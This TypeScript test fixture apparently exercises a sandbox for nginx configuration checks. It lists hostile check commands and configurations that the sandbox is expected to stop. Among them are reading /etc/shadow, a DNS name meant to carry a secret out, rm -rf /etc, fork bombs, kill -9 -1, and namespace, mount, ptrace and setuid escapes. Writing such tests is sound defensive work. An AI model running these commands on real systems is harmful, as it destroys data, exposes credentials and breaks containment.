/** What hostile configurations and checks try against the machine that they are checked on. */
import { join } from "node:path";
import type { CheckCommand } from "../../../../src/target/check/sandbox.ts";
import type { Witness } from "../../../helpers/witness.ts";

export interface Scene {
  /** The check's own folder, with `etc bound log run temp` and the canary. */
  readonly folder: string;
  /** Must stay as it is; mounted at `bound` a second time. */
  readonly canary: string;
  readonly dest: string;
  readonly witness: Witness;
  /** The program; empty: it is missing. */
  readonly nginx: string;
  /** A library that acts when it is loaded; empty: no compiler. */
  readonly library: string;
}

export interface Attack {
  readonly what: string;
  readonly make: (scene: Scene) => {
    /** Of the file that is checked. */
    readonly text?: string;
    readonly check: CheckCommand;
  };
  /** `written`: it has its way inside and says yes. Absent: either. */
  readonly ends?: "rejected" | "written";
  readonly needs?: "nginx" | "library";
}

const TIMEOUT_MS = 1500;

export function sh(script: string, more: Partial<CheckCommand> = {}): CheckCommand {
  return { argv: ["sh", "-c", script], timeoutMs: TIMEOUT_MS, ...more };
}

export function python(script: string, more: Partial<CheckCommand> = {}): CheckCommand {
  return { argv: ["/usr/bin/env", "python3", "-c", script], timeoutMs: 4 * TIMEOUT_MS, ...more };
}

interface Parts {
  readonly main?: string;
  readonly http?: string;
  readonly server?: string;
}

/** A main configuration of nginx that writes in the scene's folder only, but for its parts. */
export function nginxConf({ folder }: Pick<Scene, "folder">, { main = "", http = "", server = "" }: Parts = {}): string {
  const temps = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"].filter((name) => !http.includes(`${name}_temp_path`));
  return [
    main.includes("pid ") ? "" : `pid ${folder}/run/nginx.pid;`,
    main.includes("error_log") ? "" : `error_log ${folder}/log/error.log;`,
    main,
    "events {}",
    "http {",
    http.startsWith("access_log") ? "" : `access_log ${folder}/log/access.log;`,
    ...temps.map((name) => `${name}_temp_path ${folder}/temp/${name};`),
    http,
    `server { listen 80; location / { return 200 ok; } ${server} }`,
    "}",
    "",
  ].join("\n");
}

export function nginxTest({ nginx, folder }: Pick<Scene, "nginx" | "folder">, confFile: string): CheckCommand {
  return { argv: [nginx, "-t", "-p", folder, "-c", confFile], timeoutMs: 10_000 };
}

export const tcpTo = ({ tcpPort }: Witness): string => `import socket\nsocket.create_connection(("127.0.0.1", ${tcpPort}), 1)`;
export const udpTo = ({ udpPort }: Witness): string =>
  `import socket\nfor n in range(9): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", ${udpPort}))`;
export const unixTo = ({ socket }: Witness): string =>
  `import socket\nsocket.socket(socket.AF_UNIX).connect(${JSON.stringify(socket)})`;

function nginxAttack(what: string, ends: "rejected" | "written", parts: (scene: Scene) => Parts): Attack {
  return {
    what,
    needs: "nginx",
    ends,
    make: (scene) => ({ text: nginxConf(scene, parts(scene)), check: nginxTest(scene, scene.dest) }),
  };
}

function shellAttack(what: string, ends: "rejected" | "written" | undefined, script: (scene: Scene) => string): Attack {
  return { what, ...(ends !== undefined && { ends }), make: (scene) => ({ check: sh(script(scene)) }) };
}

function pythonAttack(what: string, ends: "rejected" | "written" | undefined, script: (scene: Scene) => string): Attack {
  return { what, ...(ends !== undefined && { ends }), make: (scene) => ({ check: python(script(scene)) }) };
}

const LIBRARY_ATTACKS: readonly Attack[] = ["load_module", "ssl_engine"].map((directive) => ({
  what: `${directive} of a library that acts when it is loaded`,
  needs: "library",
  make: (scene) => ({
    text: nginxConf(scene, { main: `${directive} ${scene.library};` }),
    check: nginxTest(scene, scene.dest),
  }),
}));

export const ATTACKS: readonly Attack[] = [
  nginxAttack("error_log into /etc", "written", () => ({ main: "error_log /etc/fairlead-canary;" })),
  nginxAttack("access_log over a precious file", "written", ({ canary }) => ({ http: `access_log ${canary}/precious;` })),
  nginxAttack("pid file into /", "written", () => ({ main: "pid /fairlead-canary;" })),
  nginxAttack("client_body_temp_path into /etc", "written", () => ({ http: "client_body_temp_path /etc/fairlead-canary;" })),
  nginxAttack("proxy_cache_path beside a precious file", "written", ({ canary }) => ({
    http: `proxy_cache_path ${canary}/cache keys_zone=a:1m;`,
  })),
  nginxAttack("include of the passwords", "rejected", () => ({ http: "include /etc/shadow;" })),
  nginxAttack("a name whose DNS question would carry something out", "rejected", () => ({
    http: "upstream u { server secret.fairlead-canary.example; }",
  })),
  ...LIBRARY_ATTACKS,
  shellAttack("prints the passwords", "rejected", () => "head -n 1 /etc/shadow; exit 1"),
  shellAttack(
    "writes all over the machine",
    "written",
    () => "for d in /etc /root /usr/bin /var/lib /run /tmp ''; do echo x > $d/fairlead-canary || exit 1; done",
  ),
  shellAttack("writes to its destination", "written", ({ dest }) => `echo tampered > ${dest} && grep -q tampered ${dest}`),
  shellAttack("deletes what there is", "written", ({ folder }) => `rm -rf ${folder} /etc; ! test -e ${folder}/canary/precious`),
  shellAttack("writes to a folder that is mounted", "written", ({ folder }) => `echo x > ${folder}/bound/precious`),
  {
    what: "replaces its staged file by a link",
    ends: "written",
    make: () => ({ check: { argv: ["sh", "-c", 'rm "$0" && ln -s /etc/passwd "$0"', "{{staged}}"], timeoutMs: TIMEOUT_MS } }),
  },
  shellAttack("changes modes and owners", "written", ({ canary }) => `chmod 777 ${canary}/secret && chown 1:1 ${canary}/secret`),
  shellAttack("kills everybody, its parent and process 1", undefined, () => "kill -9 1 $PPID; kill -9 -1; exit 1"),
  pythonAttack("opens a TCP connection to the host", "rejected", ({ witness }) => tcpTo(witness)),
  pythonAttack("sends UDP packets to the host", undefined, ({ witness }) => udpTo(witness)),
  pythonAttack("connects to a socket that all may write to", "rejected", ({ witness }) => unixTo(witness)),
  shellAttack(
    "mounts",
    "rejected",
    ({ canary }) => `mount --bind /etc ${canary} || mount -t tmpfs x ${canary} || mount -o remount,rw /proc || umount -l /proc`,
  ),
  shellAttack(
    "makes name spaces to be root in",
    "rejected",
    () => "unshare --user --map-root-user true || unshare --mount true || unshare --net true || nsenter --target 1 --mount true",
  ),
  shellAttack(
    "makes devices, or opens a disk",
    "rejected",
    ({ canary }) => `mknod ${canary}/disk b 254 0 || mknod /dev/mem c 1 1 || head -c 1 /dev/vda || head -c 1 /dev/sda`,
  ),
  shellAttack(
    "writes kernel settings",
    "rejected",
    () =>
      "for f in sys/kernel/core_pattern sysrq-trigger sys/net/ipv4/ip_forward sys/vm/drop_caches; do echo 1 > /proc/$f && exit; done; echo 0 > /sys/kernel/mm/ksm/run",
  ),
  shellAttack(
    "looks into process 1 and its root",
    "rejected",
    () => "ls -L /proc/1/root || ls -L /proc/1/cwd || cat /proc/1/environ || cat /proc/1/mem",
  ),
  pythonAttack(
    "traces process 1",
    "rejected",
    () => "import ctypes, sys\nsys.exit(0 if ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0 else 1)",
  ),
  pythonAttack("becomes root", "rejected", () => "import os\nos.setuid(0)"),
  shellAttack(
    "makes what is shown of its output the passwords",
    undefined,
    () => "rm -f /dev/stderr /dev/stdout; ln -s /etc/shadow /dev/stderr; mkfifo /dev/stdout; exit 1",
  ),
  shellAttack("forks without end", "rejected", () => "f() { f | f & f; }; f; sleep 60"),
  {
    what: "forks without end, and takes no for no answer",
    ends: "rejected",
    make: () => ({
      check: python("import os\nwhile True:\n  try: os.fork()\n  except OSError: pass", { timeoutMs: TIMEOUT_MS }),
    }),
  },
  pythonAttack(
    "starts hundreds of processes",
    "rejected",
    () => "import os, time\nfor n in range(400):\n  if os.fork() == 0: time.sleep(60)",
  ),
  shellAttack("leaves a daemon that holds its output", "written", () => "setsid sh -c 'trap \"\" TERM HUP; sleep 600' & exit 0"),
  shellAttack(
    "does not end, whatever signal comes",
    "rejected",
    () => "trap '' TERM INT HUP; setsid sleep 600 & while :; do sleep 600; done",
  ),
  pythonAttack(
    "leaves its group, and is not told of its parent's end",
    "rejected",
    () => "import ctypes, os, time\nif os.fork() == 0: os.setsid()\nctypes.CDLL(None).prctl(1, 0)\ntime.sleep(600)",
  ),
  shellAttack("prints without end", "rejected", () => "yes shouting & yes shouting >&2"),
  shellAttack(
    "fills the memory that its files are in",
    "rejected",
    () => "for n in 1 2 3; do cat /dev/zero > /tmp/big-$n; done; exit 1",
  ),
];

/** Where the attacks leave a mark when they can. */
export const MARKS = ["", "/etc", "/root", "/usr/bin", "/var/lib", "/run", "/tmp"].map((where) =>
  join("/", where, "fairlead-canary"),
);
